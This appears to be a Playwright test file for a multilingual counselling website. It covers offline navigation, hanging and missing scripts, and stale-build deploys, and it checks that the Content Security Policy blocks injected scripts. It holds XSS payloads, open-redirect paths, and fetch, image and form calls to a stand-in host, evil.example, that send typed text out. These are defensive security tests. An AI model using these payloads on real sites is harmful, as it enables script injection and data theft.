@@ -1,0 +1,687 @@
+import type { Page, Route } from '@playwright/test';
+import { phoneHref } from '@/content/facts';
+import { allLocales, locales } from '@/content/locales';
+import { localePath, pagePaths, serviceIds } from '@/content/site-map';
+import { wordsFor } from '@/content/words';
+import { alive, expect, test } from '../site';
+
+const { common, contact, fees, services } = wordsFor('en');
+const { form, toast } = contact;
+
+// What each of these breaks is told on the console by the browser. No other word may stand there, so
+// that an error of the site's own still fails the test.
+const brokenOnPurpose =
+  /^Failed to load resource|ChunkLoadError|^Failed to fetch RSC payload|violates the following|Content Security Policy/;
+
+test.afterEach(({ trouble }) => {
+  trouble.console = trouble.console.filter((line) => !brokenOnPurpose.test(line));
+});
+
+const title = (page: Page) => page.getByRole('heading', { level: 1 });
+const inHeader = (page: Page, name: string) =>
+  page.getByRole('banner').getByRole('link', { name, exact: true }).filter({ visible: true });
+const submit = (page: Page) => page.getByRole('button', { name: form.submit });
+const notice = (page: Page) => page.getByRole('alert').filter({ hasText: common.connectionLost });
+
+/** Puts a mark on the document, which the next one does not have. */
+const mark = (page: Page) => page.evaluate(() => Object.assign(window, { marked: true }));
+const isMarked = (page: Page) => page.evaluate(() => 'marked' in window);
+
+async function fillIn(page: Page) {
+  await page.getByLabel(form.name.label).fill('Noor');
+  await page.getByLabel(form.email.label).fill('noor@example.com');
+  await page.getByLabel(form.message.label).fill('We would like to come together.');
+}
+
+const expectFilledIn = (page: Page) =>
+  expect(page.getByLabel(form.message.label)).toHaveValue('We would like to come together.');
+
+/** Reads, calls, moves on: what a visitor can do on any page, with its scripts or without. */
+async function expectUsable(page: Page, heading: string) {
+  await expect(title(page)).toHaveText(heading);
+  await expect(
+    page.locator(`a[href="${phoneHref}"]`).filter({ visible: true }).first(),
+  ).toBeEnabled();
+  await expect(page.getByText('Unexpected Application Error!')).toHaveCount(0);
+  await inHeader(page, common.navigation.fees).click();
+  await expect(page).toHaveURL(pagePaths.fees);
+  await expect(title(page)).toHaveText(fees.header.title);
+}
+
+/** Answers for files whose decoded path matches, in the host's place. */
+const answer = (page: Page, files: RegExp, how: (route: Route) => unknown) =>
+  page.route(({ pathname }) => files.test(decodeURI(pathname)), how);
+
+const missing = (route: Route) => route.fulfill({ status: 404, body: 'Not found' });
+const blocked = (route: Route) => route.abort('blockedbyclient');
+const unanswered = () => undefined;
+
+/** Waits until a page has asked for nothing for a while. */
+async function quiet(page: Page) {
+  let last = Date.now();
+  const note = () => {
+    last = Date.now();
+  };
+  page.on('request', note);
+  page.on('requestfinished', note);
+  await expect.poll(() => Date.now() - last > 400).toBe(true);
+}
+
+/** The files in which the router fetches a page: `/fees.txt`, `/fees/__next.….txt`. */
+const payloads = /\.txt$/;
+
+test.describe('when the network is gone', () => {
+  for (const locale of allLocales) {
+    test(`a click in ${locale} keeps the page, says so and offers the phone`, async ({
+      page,
+      context,
+    }) => {
+      const words = wordsFor(locale);
+      await page.goto(localePath(pagePaths.services, locale), { waitUntil: 'networkidle' });
+      await alive(page);
+      await context.setOffline(true);
+      await inHeader(page, words.common.navigation.fees).click();
+      const alert = page.getByRole('alert').filter({ hasText: words.common.connectionLost });
+      await expect(alert).toBeVisible();
+      await expect(alert.getByRole('link', { name: words.common.actions.call })).toHaveAttribute(
+        'href',
+        phoneHref,
+      );
+      await expect(title(page)).toHaveText(words.services.header.title);
+      await context.setOffline(false);
+      await inHeader(page, words.common.navigation.fees).click();
+      await expect(title(page)).toHaveText(words.fees.header.title);
+      await expect(alert).toHaveCount(0);
+    });
+  }
+
+  test('a half-written enquiry outlives a click on any link', async ({ page, context }) => {
+    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
+    await alive(page);
+    await fillIn(page);
+    await mark(page);
+    await context.setOffline(true);
+    const footer = page.getByRole('contentinfo');
+    for (const link of [
+      inHeader(page, common.navigation.fees),
+      // Those that load a document.
+      footer.getByRole('link', { name: common.footer.links.infidelity }),
+      page.getByRole('banner').getByRole('link', { name: 'Français' }).filter({ visible: true }),
+      // Whose menu cannot be fetched.
+      page.getByRole('button', { name: common.openServices }),
+    ]) {
+      await link.click();
+      await expect(notice(page)).toBeVisible();
+      // A click elsewhere takes the notice away.
+      await page.getByLabel(form.message.label).click();
+      await expect(notice(page)).toHaveCount(0);
+    }
+    await expectFilledIn(page);
+    await expect(page).toHaveURL(pagePaths.contact);
+    await context.setOffline(false);
+    expect(await isMarked(page)).toBe(true);
+    await expectUsable(page, contact.header.title);
+  });
+
+  test('the browser need not have noticed', async ({ page }) => {
+    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
+    await alive(page);
+    await fillIn(page);
+    await page.route('**', (route) => route.abort('connectionfailed'));
+    await inHeader(page, common.navigation.fees).click();
+    await expect(notice(page)).toBeVisible();
+    await expectFilledIn(page);
+    await page.unrouteAll();
+    await expectUsable(page, contact.header.title);
+  });
+
+  test('a page that was fetched ahead still opens', async ({ page, context }) => {
+    await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
+    await alive(page);
+    await inHeader(page, common.navigation.fees).focus();
+    await page.waitForResponse((response) => response.url().includes('/fees/__next'));
+    await quiet(page);
+    await context.setOffline(true);
+    await inHeader(page, common.navigation.fees).press('Enter');
+    await expect(title(page)).toHaveText(fees.header.title);
+    await expect(notice(page)).toHaveCount(0);
+    await page.goBack();
+    await expect(title(page)).toHaveText(services.header.title);
+  });
+
+  test('an enquiry is confirmed and the fields emptied all the same, as nothing is sent', async ({
+    page,
+    context,
+  }) => {
+    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
+    await alive(page);
+    await context.setOffline(true);
+    await fillIn(page);
+    await submit(page).click();
+    await expect(page.getByText(toast.title, { exact: true })).toBeVisible();
+    await expect(page.getByLabel(form.message.label)).toHaveValue('');
+  });
+});
+
+test.describe('when the network hangs', () => {
+  for (const [what, files] of [
+    ['page', /^\/fees.*\.txt$/],
+    ['page’s script', /\/fees\/.*\.js$/],
+  ] as const)
+    test(`a ${what} that keeps one waiting is told of, and another one opens`, async ({ page }) => {
+      await page.clock.install();
+      await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
+      await alive(page);
+      await fillIn(page);
+      await answer(page, files, unanswered);
+      await inHeader(page, common.navigation.fees).click();
+      await page.clock.runFor(4_000);
+      await expect(notice(page)).toHaveCount(0);
+      await page.clock.runFor(2_000);
+      await expect(notice(page)).toBeVisible();
+      await expectFilledIn(page);
+      await inHeader(page, common.navigation.blog).click();
+      await page.clock.runFor(10_000);
+      await expect(page).toHaveURL(pagePaths.blog);
+      await expect(notice(page)).toHaveCount(0);
+      await page.unrouteAll();
+      await inHeader(page, common.navigation.fees).click();
+      await expect(title(page)).toHaveText(fees.header.title);
+    });
+
+  test('the page opens when it comes after all', async ({ page }) => {
+    await page.clock.install();
+    await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
+    await alive(page);
+    let release = () => {};
+    const late = new Promise<void>((resolve) => {
+      release = resolve;
+    });
+    await answer(page, payloads, async (route) => {
+      await late;
+      await route.continue();
+    });
+    await inHeader(page, common.navigation.fees).click();
+    await page.clock.runFor(6_000);
+    await expect(notice(page)).toBeVisible();
+    release();
+    await expect(title(page)).toHaveText(fees.header.title);
+    await expect(notice(page)).toHaveCount(0);
+  });
+});
+
+for (const [what, how] of [
+  ['missing', missing],
+  ['blocked', blocked],
+] as const) {
+  test(`where the router’s files are ${what}, its links load documents`, async ({ page }) => {
+    await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
+    await alive(page);
+    await mark(page);
+    await answer(page, payloads, how);
+    await inHeader(page, common.navigation.fees).click();
+    await expect(title(page)).toHaveText(fees.header.title);
+    expect(await isMarked(page)).toBe(false);
+    await alive(page);
+  });
+
+  test.describe(`when a script file is ${what}`, () => {
+    test.use({ viewport: { width: 390, height: 844 } });
+
+    // All of them, or one: the site's, and the few bytes that name a page's own.
+    for (const files of [/\.js$/, /\/site-\w+\.js$/, /\/webpack-\w+\.js$/, /\/page-\w+\.js$/]) {
+      test(`(${files}) the page is read, the menu opens and its links lead on`, async ({
+        page,
+      }) => {
+        await answer(page, files, how);
+        await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
+        await expect(title(page)).toHaveText(services.header.title);
+        await expect(
+          page.getByRole('complementary').getByRole('link', { name: common.actions.callShort }),
+        ).toHaveAttribute('href', phoneHref);
+        await page.getByRole('banner').locator('summary').click();
+        await inHeader(page, common.services[serviceIds[0]]).click();
+        await expect(page).toHaveURL(pagePaths[serviceIds[0]]);
+        await expect(title(page)).toHaveText(wordsFor('en').couplesMarriage.header.title);
+      });
+    }
+
+    for (const locale of allLocales) {
+      test(`the form in ${locale} gives nothing away, and says whom to call`, async ({ page }) => {
+        const words = wordsFor(locale).contact;
+        await page.clock.install();
+        await answer(page, /\.js$/, how);
+        const path = localePath(pagePaths.contact, locale);
+        await page.goto(path);
+        const button = page.getByRole('button', { name: words.form.submit });
+        await page.getByLabel(words.form.name.label).fill('Noor');
+        await page.getByLabel(words.form.email.label).fill('noor@example.com');
+        await page.getByLabel(words.form.message.label).fill('?');
+        await expect(button).toBeDisabled();
+        await page.getByLabel(words.form.email.label).press('Enter');
+        await expect(page).toHaveURL(path);
+        // The hint takes its time, by CSS, which no clock of a test can set.
+        await expect(page.getByText(words.form.late)).toBeVisible({ timeout: 15_000 });
+      });
+    }
+  });
+}
+
+test('the hint below the form is gone once it is alive, and nothing has moved', async ({
+  page,
+}) => {
+  await page.emulateMedia({ reducedMotion: 'reduce' });
+  let release = () => {};
+  const late = new Promise<void>((resolve) => {
+    release = resolve;
+  });
+  await answer(page, /\.js$/, async (route) => {
+    await late;
+    await route.continue();
+  });
+  await page.goto(pagePaths.contact, { waitUntil: 'commit' });
+  await expect(page.getByText(form.late)).toBeVisible();
+  const before = await page.locator('form').boundingBox();
+  release();
+  await alive(page);
+  await expect(page.getByText(form.late)).toBeHidden();
+  expect(await page.locator('form').boundingBox()).toEqual(before);
+});
+
+test('a page whose script fails while React waits for it stays as it was served', async ({
+  page,
+}) => {
+  let release = () => {};
+  const late = new Promise<void>((resolve) => {
+    release = resolve;
+  });
+  await page.clock.install();
+  await answer(page, /\/page-\w+\.js$/, async (route) => {
+    await late;
+    await missing(route);
+  });
+  await page.goto(pagePaths.contact, { waitUntil: 'commit' });
+  // The router is there; the page's own script is not.
+  await page.waitForFunction(() => 'next' in window);
+  await page.clock.runFor(1_000);
+  release();
+  // Longer than a visit, and than webpack's patience.
+  await page.clock.runFor(30 * 60_000);
+  await expectUsable(page, contact.header.title);
+});
+
+test('a page whose script is missing is loaded as a document', async ({ page }) => {
+  await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
+  await alive(page);
+  const documents: string[] = [];
+  page.on('request', (request) => {
+    if (request.isNavigationRequest()) documents.push(new URL(request.url()).pathname);
+  });
+  await answer(page, /\/fees\/page-\w+\.js$/, missing);
+  await inHeader(page, common.navigation.fees).click();
+  await expect(title(page)).toHaveText(fees.header.title);
+  await page.waitForLoadState('networkidle');
+  expect(documents).toEqual([pagePaths.fees]);
+});
+
+for (const [what, how] of [
+  ['missing', missing],
+  ['blocked', blocked],
+  ['unanswered', unanswered],
+] as const) {
+  test(`when what is fetched for a menu or a toast is ${what}, both do without it`, async ({
+    page,
+  }) => {
+    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
+    await alive(page);
+    await answer(page, /\/chunks\/(?!app\/).*\.js$/, how);
+
+    await fillIn(page);
+    await submit(page).click();
+    const said = page.locator('form').getByRole('status').filter({ hasText: toast.title });
+    await expect(said).toContainText(toast.description);
+    await expect(page.getByLabel(form.message.label)).toHaveValue('');
+
+    await inHeader(page, common.navigation.services).hover();
+    await inHeader(page, common.navigation.services).click();
+    await expect(title(page)).toHaveText(services.header.title);
+  });
+}
+
+test('the services menu’s button leads to all services where its menu is missing', async ({
+  page,
+}) => {
+  await page.goto(pagePaths.home, { waitUntil: 'networkidle' });
+  await alive(page);
+  await answer(page, /\/chunks\/\d+\.\w+\.js$/, missing);
+  await page.getByRole('button', { name: common.openServices }).click();
+  await expect(title(page)).toHaveText(services.header.title);
+  await expect(page.getByRole('menu')).toHaveCount(0);
+});
+
+test.describe('in a tab that is older than the site', () => {
+  /**
+   * Another build takes the host over: its payloads name it, and the files of the old one are gone.
+   * The next document is the new build's, and so are the files that it asks for.
+   */
+  async function deploy(page: Page) {
+    const documents: string[] = [];
+    await page.route('**', async (route) => {
+      const request = route.request();
+      const { pathname } = new URL(request.url());
+      if (request.isNavigationRequest()) documents.push(pathname);
+      else if (documents.length === 0 && pathname.startsWith('/_next/static/'))
+        return missing(route);
+      else if (payloads.test(pathname)) {
+        const response = await route.fetch();
+        const text = await response.text();
+        expect(text).toMatch(/"b":"[^"]+"/);
+        const body = text.replace(/"b":"[^"]+"/, '"b":"another-build"');
+        return route.fulfill({ response, body });
+      }
+      return route.continue();
+    });
+    return documents;
+  }
+
+  for (const ahead of [true, false]) {
+    test(`a link ${ahead ? 'that was rested on ' : ''}leads to the new page, once`, async ({
+      page,
+    }) => {
+      await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
+      await alive(page);
+      const documents = await deploy(page);
+      const link = inHeader(page, common.navigation.fees);
+      if (ahead) {
+        await link.focus();
+        await page.waitForResponse((response) => response.url().includes('/fees/__next'));
+        await quiet(page);
+      }
+      await link.press('Enter');
+      await expect(title(page)).toHaveText(fees.header.title);
+      await alive(page);
+      await page.waitForLoadState('networkidle');
+      expect(documents).toEqual([pagePaths.fees]);
+    });
+  }
+
+  test('the services menu leads to all services', async ({ page }) => {
+    await page.goto(pagePaths.home, { waitUntil: 'networkidle' });
+    await alive(page);
+    const documents = await deploy(page);
+    await page.getByRole('button', { name: common.openServices }).click();
+    await expect(title(page)).toHaveText(services.header.title);
+    expect(documents).toEqual([pagePaths.services]);
+  });
+
+  test('an enquiry is confirmed below its button', async ({ page }) => {
+    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
+    await alive(page);
+    await deploy(page);
+    await fillIn(page);
+    await submit(page).click();
+    await expect(page.locator('form').getByRole('status')).toContainText(toast.title);
+    await expect(page.getByLabel(form.message.label)).toHaveValue('');
+  });
+});
+
+test.describe('what is injected', () => {
+  test.afterEach(({ trouble }) => {
+    // React says that it has drawn the page once more, since it was not what had been exported.
+    trouble.console = trouble.console.filter(
+      (line) => !/error #418|Trusted\w+' assignment/.test(line),
+    );
+  });
+
+  const evil = 'window.evil = (window.evil ?? 0) + 1';
+  const hasRun = (page: Page) => page.evaluate(() => 'evil' in window);
+
+  /** Every request to another host has to have been stopped by the policy, before it left. */
+  async function expectNothingLeft(page: Page, trouble: { hosts: string[] }, stopped: string[]) {
+    expect(await hasRun(page)).toBe(false);
+    await expect.poll(() => stopped).toEqual(trouble.hosts);
+    trouble.hosts = [];
+  }
+
+  function stoppedBy(page: Page) {
+    const stopped: string[] = [];
+    page.on('requestfailed', (request) => {
+      if (request.failure()?.errorText === 'csp') stopped.push(new URL(request.url()).origin);
+    });
+    return stopped;
+  }
+
+  for (const [what, html] of [
+    ['an inline script', `<script>${evil}</script>`],
+    ['a module', `<script type="module">${evil}</script>`],
+    ['a script of another host', '<script src="https://evil.example/evil.js"></script>'],
+    ['a script in the address', `<script src="data:text/javascript,${evil}"></script>`],
+    ['a handler of an error', `<img src="/none.png" onerror="${evil}">`],
+    ['a handler of a drawing', `<svg onload="${evil}"></svg>`],
+    ['a frame', `<iframe srcdoc="<script>parent.evil = 1</script>"></iframe>`],
+    ['a base', '<base href="https://evil.example/">'],
+    ['a sheet of another host', '<link rel="stylesheet" href="https://evil.example/evil.css">'],
+  ] as const) {
+    test(`into the page as it is served does not run: ${what}`, async ({ page, trouble }) => {
+      const stopped = stoppedBy(page);
+      await page.route('**/services', async (route) => {
+        const response = await route.fetch();
+        const body = (await response.text()).replace(/<\/main>/, `${html}</main>`);
+        await route.fulfill({ response, body });
+      });
+      await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
+      await expectNothingLeft(page, trouble, stopped);
+      await expectUsable(page, services.header.title);
+    });
+  }
+
+  test('as a form to another host sends nothing', async ({ page }) => {
+    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
+    await alive(page);
+    const told = page.waitForEvent('console', (message) => /form-action/.test(message.text()));
+    await page.evaluate(() => {
+      const form = document.createElement('form');
+      form.action = 'https://evil.example/';
+      document.body.append(form);
+      form.submit();
+    });
+    await told;
+    // Playwright goes on waiting for the navigation that the policy stopped, so the page says it itself.
+    expect(await page.evaluate(() => document.querySelector('h1')?.textContent)).toBe(
+      contact.header.title,
+    );
+  });
+
+  test('while it is open does not run, and the page goes on working', async ({ page, trouble }) => {
+    const stopped = stoppedBy(page);
+    await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
+    await alive(page);
+    const refused = await page.evaluate(async (evil) => {
+      // Later, since a debugger's own evaluation is let off the policy.
+      await new Promise((resolve) => setTimeout(resolve));
+      const refuses = (act: () => unknown) => {
+        try {
+          act();
+          return false;
+        } catch (error) {
+          return error instanceof TypeError || error instanceof EvalError;
+        }
+      };
+      const add = (name: string, attribute: string, value: string, text = '') => {
+        const element = document.createElement(name);
+        element.setAttribute(attribute, value);
+        element.append(text);
+        document.body.append(element);
+        return element;
+      };
+      add('script', 'type', 'text/javascript', evil);
+      add('a', 'href', `javascript:${evil}`).click();
+      add('iframe', 'src', 'https://evil.example/');
+      add('img', 'src', 'https://evil.example/?what=was+typed');
+      fetch('https://evil.example/', { method: 'POST', body: 'typed' }).catch(() => undefined);
+      return [
+        () => document.body.insertAdjacentHTML('beforeend', `<img src="/x" onerror="${evil}">`),
+        () => {
+          document.createElement('div').innerHTML = `<svg onload="${evil}">`;
+        },
+        () => document.write(`<script>${evil}</script>`),
+        () => {
+          document.createElement('script').src = 'https://evil.example/evil.js';
+        },
+        // biome-ignore lint/security/noGlobalEval: it is what must not work.
+        () => window.eval(evil),
+        () => new Function(evil)(),
+        () => window.setTimeout(evil, 0),
+        () => document.body.setAttribute('onclick', evil),
+      ].map(refuses);
+    }, evil);
+    expect(refused).toEqual(refused.map(() => true));
+    await quiet(page);
+    await expectNothingLeft(page, trouble, stopped);
+    await expectUsable(page, services.header.title);
+  });
+});
+
+test.describe('a hostile address', () => {
+  const script = '<script>window.evil=1</script>';
+  const paths = [
+    `/${encodeURIComponent('<img src=x onerror=window.evil=1>')}`,
+    `/${encodeURIComponent(script)}`,
+    `/contact${encodeURIComponent(`"'><svg onload=window.evil=1>`)}`,
+    '/javascript:alert(1)',
+    '/data:text/html,x',
+    '//evil.example',
+    '/es//evil.example',
+    '//evil.example/%2e%2e',
+    '/%5C%5Cevil.example',
+    '/%2F%2Fevil.example',
+    '/fr/%09//evil.example',
+    '/%E2%80%AEmoc.live%E2%80%AC',
+    '/%E0%A4%A',
+    '/%',
+    '/%00',
+    '/__proto__/constructor',
+    `/${'%F0%9F%8C%8A'.repeat(400)}`,
+    `/?next=//evil.example#${script}`.replace('/', '/none'),
+  ];
+
+  for (const path of paths) {
+    test(`${path.slice(0, 50)} becomes no markup and leads nowhere else`, async ({
+      page,
+      baseURL,
+      trouble,
+    }) => {
+      // Hosts keep two slashes where the tests' own server takes one away, so this stands in for them.
+      await page.route(`${baseURL}/**`, async (route) => {
+        if (!route.request().isNavigationRequest() || route.request().url() === `${baseURL}/`)
+          return route.continue();
+        const response = await route.fetch({ url: `${baseURL}/no-such-page` });
+        return route.fulfill({ response });
+      });
+      await page.goto(`${baseURL}${path}`);
+      await alive(page);
+      const address = page.url();
+      await expect(title(page)).toHaveText('404');
+
+      expect(await page.evaluate(() => 'evil' in window)).toBe(false);
+      await expect(
+        page.locator('main').locator('img, iframe, script, [onload], [onerror]'),
+      ).toHaveCount(0);
+      expect(await page.locator('main').textContent()).not.toMatch(/evil|\u202e|<|onload/);
+
+      // As they stand, and as they are once they have been come near.
+      for (const near of [false, true]) {
+        const elsewhere = await page.evaluate((near) => {
+          const links = [...document.querySelectorAll('a')];
+          if (near)
+            for (const link of links)
+              link.dispatchEvent(new FocusEvent('focusin', { bubbles: true }));
+          return links
+            .filter(({ protocol, origin }) => protocol !== 'tel:' && origin !== location.origin)
+            .map((link) => link.getAttribute('href'));
+        }, near);
+        expect(elsewhere).toEqual([]);
+      }
+      expect(page.url()).toBe(address);
+
+      const locale = address.startsWith(`${baseURL}/es/`)
+        ? 'es'
+        : address.startsWith(`${baseURL}/fr/`)
+          ? 'fr'
+          : 'en';
+      await expect(page.locator('html')).toHaveAttribute('lang', locales[locale].tag);
+      await expect(page.locator(`a[href="${phoneHref}"]`).first()).toBeVisible();
+      await page.getByRole('link', { name: wordsFor(locale).notFound.action }).click();
+      await expect(page).toHaveURL('/');
+      trouble.console = trouble.console.filter((line) => !/404/.test(line));
+    });
+  }
+});
+
+test('a thousand enquiries leave one toast, an empty form and no more than there was', async ({
+  page,
+}) => {
+  test.slow();
+  await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
+  await expect(submit(page)).toBeEnabled();
+  const posted: string[] = [];
+  page.on('request', (request) => {
+    if (request.method() !== 'GET') posted.push(request.url());
+  });
+  const browser = await page.context().newCDPSession(page);
+  await browser.send('Performance.enable');
+  const kept = async () => {
+    await browser.send('HeapProfiler.collectGarbage');
+    const { metrics } = await browser.send('Performance.getMetrics');
+    const value = (name: string) => metrics.find((metric) => metric.name === name)?.value ?? 0;
+    return {
+      nodes: value('Nodes'),
+      listeners: value('JSEventListeners'),
+      heap: value('JSHeapUsedSize'),
+    };
+  };
+  const send = (times: number) =>
+    page.evaluate(async (times) => {
+      const form = document.querySelector('form') as HTMLFormElement;
+      for (let sent = 0; sent < times; ) {
+        for (const [name, value] of [
+          ['name', 'Noor'],
+          ['email', 'noor@example.com'],
+          ['message', `Enquiry ${sent}`],
+        ] as const) {
+          const field = form.elements.namedItem(name) as HTMLInputElement;
+          // As a key press does it, past React's own setter.
+          Object.getOwnPropertyDescriptor(Object.getPrototypeOf(field), 'value')?.set?.call(
+            field,
+            value,
+          );
+          field.dispatchEvent(new Event('input', { bubbles: true }));
+        }
+        form.requestSubmit();
+        await null;
+        // React hears nothing while a view transition takes its pictures; then it is sent again.
+        if (form.querySelector('textarea')?.value) {
+          await new Promise((resolve) => setTimeout(resolve));
+        } else sent += 1;
+      }
+    }, times);
+
+  await send(20);
+  await expect(page.getByText(toast.title, { exact: true })).toHaveCount(1);
+  const before = await kept();
+  await send(1000);
+  await expect(page.getByText(toast.title, { exact: true })).toHaveCount(1);
+  await expect(page.getByLabel(form.message.label)).toHaveValue('');
+  const after = await kept();
+  // Not one node, listener or kilobyte for each.
+  expect(after.nodes - before.nodes).toBeLessThan(500);
+  expect(after.listeners - before.listeners).toBeLessThan(500);
+  expect(after.heap - before.heap).toBeLessThan(1_000_000);
+  expect(posted).toEqual([]);
+
+  await page.getByRole('button', { name: toast.close, exact: true }).click();
+  await fillIn(page);
+  await submit(page).click();
+  await expect(page.getByText(toast.title, { exact: true })).toHaveCount(1);
+  await expectUsable(page, contact.header.title);
+});
